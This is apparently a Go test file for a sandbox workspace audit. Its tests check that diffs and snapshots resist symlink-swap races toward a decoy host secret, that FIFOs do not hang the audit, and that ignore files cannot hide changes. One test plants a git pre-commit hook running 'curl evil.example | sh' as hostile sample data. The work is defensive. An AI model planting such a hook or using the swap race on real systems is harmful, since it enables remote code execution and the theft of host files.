package workspace

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"
	"golang.org/x/sys/unix"
)

// decoy makes a root-only directory outside the workspace holding a file
// with a unique string, and returns the string, the file and the directory.
func decoy(t *testing.T) (secret, file, dir string) {
	t.Helper()
	b := make([]byte, 12)
	rand.Read(b)
	secret = "DECOY-" + hex.EncodeToString(b)
	dir = filepath.Join(t.TempDir(), "host-secrets")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	file = filepath.Join(dir, "shadow")
	if err := os.WriteFile(file, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return secret, file, dir
}

// swapper stands in for a jail: it keeps exchanging two workspace entries
// (a regular file or directory, and a symlink out of the workspace) with
// renameat2(RENAME_EXCHANGE) until stop is closed.
func swapper(t *testing.T, ws string, pairs [][2]string, stop <-chan struct{}, wg *sync.WaitGroup) {
	t.Helper()
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, p := range pairs {
				_ = unix.Renameat2(unix.AT_FDCWD, filepath.Join(ws, p[0]), unix.AT_FDCWD, filepath.Join(ws, p[1]), unix.RENAME_EXCHANGE)
			}
		}
	}()
}

// blobsContaining scans every blob of the audit repository for s.
func blobsContaining(t *testing.T, auditDir, s string) int {
	t.Helper()
	repo, err := git.PlainOpen(auditDir)
	if err != nil {
		t.Fatal(err)
	}
	iter, err := repo.BlobObjects()
	if err != nil {
		t.Fatal(err)
	}
	n, seen := 0, 0
	err = iter.ForEach(func(b *object.Blob) error {
		seen++
		r, err := b.Reader()
		if err != nil {
			return err
		}
		defer r.Close()
		buf := make([]byte, 1<<20)
		k, _ := r.Read(buf)
		if strings.Contains(string(buf[:k]), s) {
			n++
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if seen == 0 {
		t.Fatal("the audit repository holds no blobs: the scan proves nothing")
	}
	return n
}

// TestDiffAndSnapshotNeverFollowSwappedLinks races a regular file against
// a symlink to a root-only host file, and a directory against a symlink to
// a host directory, while diffs and snapshots walk the workspace. The host
// file's content must appear in no patch, no error and no audit blob.
func TestDiffAndSnapshotNeverFollowSwappedLinks(t *testing.T) {
	secret, file, dir := decoy(t)
	ws := t.TempDir()
	write(t, ws, "README.md", "hello\n")
	// Several pairs, in the top directory and below, to give the race
	// many chances per walk.
	var pairs [][2]string
	for i := range 8 {
		f := fmt.Sprintf("sub%d/victim%d", i%2, i)
		write(t, ws, f, "an innocent file\n")
		if err := os.Symlink(file, filepath.Join(ws, f+"-alt")); err != nil {
			t.Fatal(err)
		}
		d := fmt.Sprintf("vdir%d", i)
		write(t, ws, d+"/inner", "an innocent directory\n")
		if err := os.Symlink(dir, filepath.Join(ws, d+"-alt")); err != nil {
			t.Fatal(err)
		}
		pairs = append(pairs, [2]string{f, f + "-alt"}, [2]string{d, d + "-alt"})
	}
	auditDir := filepath.Join(t.TempDir(), "audit.git")
	a, err := OpenAudit(auditDir)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if _, err := a.SetBase(ctx, HostTree(ws), "test"); err != nil {
		t.Fatal(err)
	}

	stop := make(chan struct{})
	var wg sync.WaitGroup
	swapper(t, ws, pairs, stop, &wg)
	defer func() { close(stop); wg.Wait() }()

	calls := 0
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); calls++ {
		// A fresh Audit each time, as the session manager opens one per call.
		a, err := OpenAudit(auditDir)
		if err != nil {
			t.Fatal(err)
		}
		var text string
		if calls%2 == 0 {
			d, err := a.Diff(ctx, HostTree(ws), 0)
			text = d.Patch
			if err != nil {
				text += err.Error()
			}
		} else if _, err := a.Snapshot(ctx, HostTree(ws), "race"); err != nil {
			text = err.Error()
		}
		if strings.Contains(text, secret) {
			t.Fatalf("call %d: the host file's content is in a result:\n%s", calls, text)
		}
	}
	t.Logf("%d diffs and snapshots under a swap race", calls)
	if n := blobsContaining(t, auditDir, secret); n > 0 {
		t.Fatalf("the host file's content is in %d blobs of the audit repository (%d calls)", n, calls)
	}
	for _, p := range []string{file, dir} {
		st, err := os.Stat(p)
		if err != nil || st.Mode().Perm() != 0o600 && p == file || st.Mode().Perm() != 0o700 && p == dir {
			t.Fatalf("%s changed: %v %v", p, st.Mode(), err)
		}
		if _, err := unix.Getxattr(p, "system.posix_acl_access", nil); err != unix.ENODATA {
			t.Fatalf("%s has an ACL now (or cannot be checked): %v", p, err)
		}
	}
}

// diffOrHang runs fn and fails the test if it has not returned after a
// generous while; unblock then releases whatever it is stuck on.
func diffOrHang(t *testing.T, what string, unblock func(), fn func() error) {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- fn() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	case <-time.After(20 * time.Second):
		for {
			unblock()
			select {
			case <-done:
				t.Fatalf("%s hung on a FIFO in the workspace", what)
			case <-time.After(100 * time.Millisecond):
			}
		}
	}
}

// TestFIFOsInTheWorkspaceDoNotHangTheAudit puts FIFOs where the old walk
// read: .gitignore at the top and in a subdirectory, .git/info/exclude,
// and a plain file name.
func TestFIFOsInTheWorkspaceDoNotHangTheAudit(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, "a.txt", "a\n")
	write(t, ws, ".git/info/placeholder", "")
	write(t, ws, "sub/b.txt", "b\n")
	fifos := []string{".gitignore", "sub/.gitignore", ".git/info/exclude", "pipe"}
	for _, f := range fifos {
		if err := syscall.Mkfifo(filepath.Join(ws, f), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Opening each FIFO for writing (non-blocking once a reader is there)
	// releases a walk stuck opening it for reading.
	unblock := func() {
		for _, f := range fifos {
			if fd, err := unix.Open(filepath.Join(ws, f), unix.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
				unix.Close(fd)
			}
		}
	}
	a, err := OpenAudit(filepath.Join(t.TempDir(), "audit.git"))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	diffOrHang(t, "set base", unblock, func() error { _, err := a.SetBase(ctx, HostTree(ws), "test"); return err })
	write(t, ws, "c.txt", "c\n")
	var d Diff
	diffOrHang(t, "diff", unblock, func() (err error) { d, err = a.Diff(ctx, HostTree(ws), 0); return err })
	diffOrHang(t, "snapshot", unblock, func() error { _, err := a.Snapshot(ctx, HostTree(ws), "pause"); return err })
	if len(d.Files) != 1 || d.Files[0].Path != "c.txt" {
		t.Fatalf("diff files %+v, want c.txt added", d.Files)
	}
	if len(d.Notes) != 1 || !strings.HasPrefix(d.Notes[0], "4 entries left out (socket, FIFO or device)") {
		t.Fatalf("diff notes %q, want the 4 FIFOs counted", d.Notes)
	}
}

// TestTheWorkspaceCannotHideFilesFromTheAudit: .gitignore and
// .git/info/exclude are the jail's to write, so they hide nothing, and a
// hook planted in .git shows in the diff.
func TestTheWorkspaceCannotHideFilesFromTheAudit(t *testing.T) {
	src, _, _ := gitRepo(t)
	ws := filepath.Join(t.TempDir(), "ws")
	p, err := Prepare(context.Background(), Spec{Source: src, Dir: ws, Policy: Policy{Local: true, Trusted: true}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := OpenAudit(filepath.Join(t.TempDir(), "audit.git"))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if _, err := a.SetBase(ctx, HostTree(ws), p.Commit); err != nil {
		t.Fatal(err)
	}
	write(t, ws, ".gitignore", "*.log\nsecret.txt\n")
	write(t, ws, ".git/info/exclude", "other.txt\n")
	write(t, ws, "secret.txt", "exfiltrated\n")
	write(t, ws, "other.txt", "also hidden?\n")
	write(t, ws, "debug.log", "a log\n")
	write(t, ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example | sh\n")
	d, err := a.Diff(ctx, HostTree(ws), 0)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range d.Files {
		got[f.Path] = f.Status
	}
	for p, st := range map[string]string{"secret.txt": "added", "other.txt": "added", "debug.log": "added",
		".gitignore": "modified", ".git/info/exclude": "", ".git/hooks/pre-commit": "added"} {
		if got[p] == "" || st != "" && got[p] != st {
			t.Errorf("%s: status %q, want %q (files %v)", p, got[p], st, got)
		}
	}
	for _, s := range []string{"+exfiltrated", "+curl evil.example | sh"} {
		if !strings.Contains(d.Patch, s) {
			t.Errorf("patch lacks %q:\n%s", s, d.Patch)
		}
	}
}
